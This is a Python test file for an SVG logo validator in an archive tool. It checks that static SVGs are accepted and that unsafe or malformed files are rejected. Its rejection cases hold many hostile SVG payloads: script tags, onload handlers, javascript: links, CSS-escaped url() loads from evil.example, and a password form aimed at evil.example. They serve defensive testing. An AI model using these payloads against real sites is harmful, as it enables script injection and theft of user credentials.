"""What `branding logo` accepts: well-formed, static SVG whose every element, attribute and CSS part is allowed."""

import pytest

from dandiops.archive.branding import validate_logo
from dandiops.core.errors import UsageError

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
GOOD = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><linearGradient id="g"/></defs>'
    b'<rect width="10" height="10" fill="url(#g)"/><use href="#g"/></svg>'
)


def svg(body: bytes) -> bytes:
    return SVG + body + b"</svg>"


def write(tmp_path, data, name="logo.svg"):
    path = tmp_path / name
    path.write_bytes(data)
    return path


BENIGN = {
    "gradient and use": GOOD,
    "the sandbox's seed logo": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 3341 1341"><rect width="3341" '
    b'height="1341" fill="#2f4f7f"/><text x="200" y="900" font-size="700" '
    b'fill="#fff">DANDI</text></svg>\n',
    "an Illustrator export": (
        b'<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In -->\n'
        b'<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 3341 1341" '
        b'style="enable-background:new 0 0 3341 1341;" xml:space="preserve">\n'
        b'<style type="text/css">\n\t.st0{fill:#2F4F7F;}\n\t.st1{fill:url(#SVGID_1_);}\n</style>\n'
        b'<linearGradient id="SVGID_1_" gradientUnits="userSpaceOnUse" x1="0" y1="0" x2="3341" y2="0">'
        b'<stop offset="0" style="stop-color:#2F4F7F"/><stop offset="1" style="stop-color:#FFFFFF"/></linearGradient>'
        b'<path class="st0" d="M0,0h3341v1341H0V0z"/><polygon class="st1" points="10,10 20,20 10,20"/></svg>\n'
    ),
    "clip paths, masks, markers, filters and symbols": svg(
        b'<defs><clipPath id="c"><circle cx="5" cy="5" r="4"/></clipPath><mask id="m"><rect width="10" '
        b'height="10" fill="white"/></mask><marker id="k" markerWidth="2" markerHeight="2" refX="1" refY="1" '
        b'orient="auto"><path d="M0 0L2 1L0 2z"/></marker><filter id="f"><feGaussianBlur in="SourceGraphic" '
        b'stdDeviation="1" result="b"/><feMerge><feMergeNode in="b"/></feMerge></filter>'
        b'<symbol id="s" viewBox="0 0 2 2"><ellipse cx="1" cy="1" rx="1" ry="0.5"/></symbol></defs>'
        b'<g clip-path="url(#c)" mask="url( #m )" filter="url(\'#f\')"><line x1="0" y1="0" x2="9" y2="9" '
        b'stroke="#000" marker-end="url(#k)"/><use xlink:href="#s" x="1" y="1" width="2" height="2"/></g>'
    ),
    "text along a path, in UTF-8 with a byte order mark": b"\xef\xbb\xbf"
    + svg(
        b'<title>Archivo de Neurofisiolog\xc3\xada</title><desc>Logo</desc><path id="p" d="M0 5H10"/>'
        b'<text font-family="\'Open Sans\', sans-serif" xml:lang="es"><textPath href="#p">DANDI '
        b'\xc3\x91</textPath><tspan dx="1">\xe2\x80\x94</tspan></text>'
    ),
    "a dark-mode style sheet": svg(
        b"<style><![CDATA[ path { fill: rgb(0 0 0 / 50%); transform: rotate(45deg) translate(1px, 2px) } "
        b"@media (prefers-color-scheme: dark) { path:not(.keep) { fill: hsl(200 50% 90%) } } ]]></style>"
        b'<path class="keep" d="M0 0h1v1z" style="stroke-width: calc(1px + 2px); fill: url(\'#g\')"/>'
    ),
    "accessible markup": b'<svg xmlns="http://www.w3.org/2000/svg" role="img" aria-label="DANDI" '
    b'focusable="false" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>',
    "no namespace declaration": b'<svg viewBox="0 0 1 1"><rect width="1" height="1"/></svg>',
}


@pytest.mark.parametrize("data", BENIGN.values(), ids=BENIGN.keys())
def test_accepts_static_svg(tmp_path, data):
    assert validate_logo(write(tmp_path, data)) == data


MALICIOUS = {
    # the four the issue names
    "set rewriting href to javascript:": (
        svg(
            b'<use href="#r"><set attributeName="href" to="javascript:alert(1)"/>'
            b'</use><rect id="r" width="1" height="1"/>'
        ),
        "<set> element",
    ),
    "animate": (
        svg(b'<rect width="1" height="1"><animate attributeName="fill" values="red;blue" dur="1s"/></rect>'),
        "<animate> element",
    ),
    "an XHTML form": (
        svg(
            b'<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="password"/></form>'
        ),
        "<form> element from the namespace http://www.w3.org/1999/xhtml",
    ),
    "a CSS-escaped url( in a style sheet": (
        svg(b"<style>.a{fill:\\75 rl(https://evil.example/x.svg#p)}</style>"),
        "loads 'https://evil.example/x.svg#p' through url() in a <style> element",
    ),
    # scripts, events, links and embedded documents
    "script": (svg(b"<script>alert(1)</script>"), "<script> element"),
    "script with an svg: prefix": (
        b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg>',
        "<script> element",
    ),
    "SCRIPT in capitals": (svg(b"<SCRIPT>alert(1)</SCRIPT>"), "<SCRIPT> element"),
    "handler": (svg(b'<handler type="application/ecmascript">alert(1)</handler>'), "<handler> element"),
    "foreignObject": (svg(b"<foreignObject><div/></foreignObject>"), "<foreignObject> element"),
    "iframe": (svg(b'<iframe src="https://evil.example/"/>'), "<iframe> element"),
    "a link": (svg(b'<a href="#r"><rect id="r" width="1" height="1"/></a>'), "<a> element"),
    "animateTransform": (
        svg(b'<g><animateTransform attributeName="transform" type="rotate" to="90"/></g>'),
        "<animateTransform> element",
    ),
    "animateMotion": (svg(b'<g><animateMotion path="M0 0L1 1"/></g>'), "<animateMotion> element"),
    "an image": (svg(b'<image href="data:image/png;base64,iVBORw0KGgo="/>'), "<image> element"),
    "feImage": (svg(b'<filter><feImage href="https://evil.example/x.png"/></filter>'), "<feImage> element"),
    "onload": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "event attribute onload="),
    "ONLOAD in capitals": (svg(b'<rect ONLOAD="alert(1)"/>'), "event attribute ONLOAD="),
    "an event attribute in the SVG namespace": (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><rect s:onclick="alert(1)"/>'
        b"</svg>",
        "attribute onclick= from the namespace http://www.w3.org/2000/svg",
    ),
    "an unknown attribute": (svg(b'<rect formaction="https://evil.example/"/>'), "attribute formaction= on <rect>"),
    "xml:base": (svg(b'<g xml:base="https://evil.example/"/>'), "attribute base= from the namespace"),
    # references out of the file
    "use of another file": (
        svg(b'<use href="https://evil.example/sprite.svg#x"/>'),
        "references 'https://evil.example/sprite.svg#x' from href= on <use>",
    ),
    "use of a data: document": (
        svg(b'<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>'),
        "from href= on <use>",
    ),
    "xlink:href to javascript:": (svg(b'<use xlink:href="javascript:alert(1)"/>'), "from xlink:href= on <use>"),
    "a gradient inheriting from another file": (
        svg(b'<linearGradient href="https://evil.example/g.svg#g"/>'),
        "from href= on <linearGradient>",
    ),
    "a fragment after a space": (svg(b'<use href=" #g"/>'), "from href= on <use>"),
    # CSS
    "url( escaped in a style attribute": (
        svg(b'<rect style="fill:u\\72l(javascript:steal\\28\\29)"/>'),
        "loads 'javascript:steal()' through url() in the style attribute of <rect>",
    ),
    "quoted url( with an escaped scheme": (
        svg(b"<rect style=\"fill:url('java\\73 cript:alert(1)')\"/>"),
        "loads 'javascript:alert(1)'",
    ),
    "URL( in capitals, escaped": (
        svg(b"<style>rect{fill:\\55RL(//evil.example/p)}</style>"),
        "loads '//evil.example/p'",
    ),
    "data: in a style sheet": (
        svg(b"<style>rect{fill:url(data:image/svg+xml;base64,PHN2Zz4=)}</style>"),
        "loads 'data:image/svg+xml",
    ),
    "a presentation attribute": (
        svg(b'<rect fill="url(https://evil.example/p.svg#g)"/>'),
        "through url() in fill= on <rect>",
    ),
    "an escaped presentation attribute": (
        svg(b'<rect mask="\\75 rl(//evil.example/m)"/>'),
        "through url() in mask= on <rect>",
    ),
    "@import of a string": (svg(b"<style>@import 'https://evil.example/a.css';</style>"), "CSS rule @import"),
    "@import of a url": (svg(b"<style>@import url(https://evil.example/a.css);</style>"), "CSS rule @import"),
    "@font-face": (svg(b"<style>@font-face{font-family:x;src:local(x)}</style>"), "CSS rule @font-face"),
    "image-set() with a bare string": (
        svg(b'<style>rect{fill:image-set("https://evil.example/x.png" 1x)}</style>'),
        "CSS function image-set()",
    ),
    "expression()": (svg(b'<rect style="width:expression(alert(1))"/>'), "CSS function expression()"),
    "a url() hidden in a nested rule": (
        svg(b"<style>g{rect{fill:url(//evil.example/p)}}</style>"),
        "loads '//evil.example/p'",
    ),
    "a url() 50,000 functions deep": (
        svg(b'<rect style="fill:' + b"calc(" * 50_000 + b"url(//evil.example/p)" + b")" * 50_000 + b'"/>'),
        "loads '//evil.example/p'",
    ),
    "CSS that cannot be parsed": (svg(b'<rect style="fill:url(a b)"/>'), "cannot be parsed"),
    "an element inside style": (svg(b"<style>.a{}<rect/></style>"), "<rect> element inside <style>"),
    "an xml-stylesheet instruction": (
        b'<?xml-stylesheet href="https://evil.example/a.css"?>' + svg(b""),
        "processing instruction <?xml-stylesheet ...?>",
    ),
    # editor and foreign markup
    "RDF metadata": (
        svg(b'<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>'),
        "<RDF> element from the namespace http://www.w3.org/1999/02/22-rdf-syntax-ns#",
    ),
    "an Inkscape attribute": (
        svg(b'<g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="Layer 1"/>'),
        "attribute label= from the namespace",
    ),
    # not an SVG file, or not UTF-8
    "broken XML": (b"<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>", "not well-formed XML"),
    "HTML": (b"<html><body/></html>", "not an SVG image"),
    "PNG": (b"\x89PNG\r\n\x1a\n\x00\x00", "not UTF-8 text (byte 0x89 at offset 0)"),
    "UTF-16": ('<svg xmlns="http://www.w3.org/2000/svg"/>'.encode("utf-16"), "not UTF-8 text"),
    "a declared Latin-1 encoding": (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>' + svg(b""),
        'declares encoding="ISO-8859-1"',
    ),
    "a DTD with an entity": (
        b"<!DOCTYPE svg [<!ENTITY x 'y'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
        "DTD or entities",
    ),
}


@pytest.mark.parametrize("data, says", MALICIOUS.values(), ids=MALICIOUS.keys())
def test_refuses_unsafe_or_broken_files_naming_what(tmp_path, data, says):
    with pytest.raises(UsageError) as info:
        validate_logo(write(tmp_path, data))
    assert says in info.value.message
    assert info.value.hint


@pytest.mark.parametrize(
    "body, says",
    [
        (b'<rect style="fill:x\\1b \\5b 2Jx\\9b y(1)"/>', "CSS function x\\x1b[2Jx\\x9by()"),
        (b"<style>@x\\1b \\5b 2J{}</style>", "CSS rule @x\\x1b[2J"),
    ],
)
def test_control_characters_from_the_file_are_shown_escaped(tmp_path, body, says):
    with pytest.raises(UsageError) as info:
        validate_logo(write(tmp_path, svg(body)))
    shown = info.value.message + info.value.hint
    assert says in shown
    assert "\x1b" not in shown and "\x9b" not in shown


def test_refuses_a_huge_file_without_parsing_it(tmp_path):
    path = write(tmp_path, GOOD[:-6] + b"<!--" + b"x" * (1024 * 1024) + b"--></svg>")
    with pytest.raises(UsageError, match="at most 1,048,576 bytes"):
        validate_logo(path)


def test_missing_file(tmp_path):
    with pytest.raises(UsageError, match="does not exist"):
        validate_logo(tmp_path / "nope.svg")
